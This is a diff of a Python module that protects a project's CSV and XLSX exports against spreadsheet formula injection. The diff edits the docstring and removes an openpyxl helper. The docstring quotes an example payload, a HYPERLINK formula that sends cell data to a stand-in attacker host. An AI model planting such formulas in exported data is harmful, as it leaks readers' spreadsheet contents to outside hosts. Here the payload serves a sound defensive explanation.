@@ -2,13 +2,14 @@
 
 Excel and LibreOffice treat a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or a
 carriage return, whatever follows) as a formula, so a unit name or a source typed as
-`=HYPERLINK("http://evil.example/?d="&B2)` would run in the reader's spreadsheet. Every writer of
-CSV or XLSX in ntm goes through this module: text cells that look like a formula are written as
-text; numbers stay numbers (a negative number is a number, not text).
+`=HYPERLINK("http://evil.example/?d="&B2)` would run in the reader's spreadsheet. Text cells that
+look like a formula are written as text; numbers stay numbers (a negative number is a number, not
+text).
 
 - CSV has no cell types, so such text gets a leading apostrophe, the convention spreadsheets
   read as "this is text"; the importer removes it again (`unquote`), so an export imports back.
-- XLSX cells have a type: such text is stored as a string cell, never as a formula.
+- XLSX cells have a type: such text is stored as a string cell, never as a formula (xlsxwriter:
+  `write_string`, or the workbook's `strings_to_formulas` off).
 """
 
 import csv
@@ -42,14 +43,3 @@ class SafeCsvWriter:
 
     def writerow(self, row) -> None:
         self._writer.writerow([csv_text(cell) for cell in row])
-
-
-def xlsx_text_cells(worksheet) -> None:
-    """Store every formula-like text cell of an openpyxl sheet as a string, never as a formula.
-
-    openpyxl types any str starting with `=` as a formula when it is assigned; ntm's reports never
-    write formulas, so all such cells are text typed by a user."""
-    for row in worksheet.iter_rows():
-        for cell in row:
-            if cell.data_type == "f":
-                cell.data_type = "s"
